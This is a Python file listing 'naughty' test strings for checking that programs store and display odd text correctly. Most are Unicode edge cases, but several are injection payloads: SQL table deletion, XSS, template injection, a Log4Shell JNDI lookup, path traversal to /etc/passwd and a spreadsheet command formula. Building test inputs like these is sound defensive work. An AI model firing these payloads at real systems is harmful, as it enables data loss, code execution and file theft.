# ruff: noqa: RUF001 - letters that look like others are the point
"""Texts that break programs which take texts for granted; all can be stored, and shown as they are."""

NAUGHTY = (
    "undefined", "NULL", "1e309", "0x10", "-1/0", "'; DROP TABLE groups; --", "<script>alert(1)</script>",
    "{{ 7 * 7 }} {% include 'x' %}", "%s%n ${jndi:ldap://x}", "../../etc/passwd", "=cmd|' /C calc'!A0",
    "Ω≈ç√∫˜µ≤≥÷", "田中さんにあげて下さい", "אבגד مرحبا", "👩\u200d👩\u200d👧 🏳\ufe0f\u200d🌈",
    "Z\u032e\u031e\u0320\u0359\u0345A\u0334\u0335", "e\u0301 é", "\u200bzero\u200cwidth\ufeff",
    "\u202ereversed\u202c", "İıſK", "𝕋𝕙𝕖 𝟷", "\ufffd\ufffe", "a\u00a0b\u3000c", "“quotes” ’n’ ‘more’",
    "&lt;b&gt; &amp;",
)  # fmt: skip
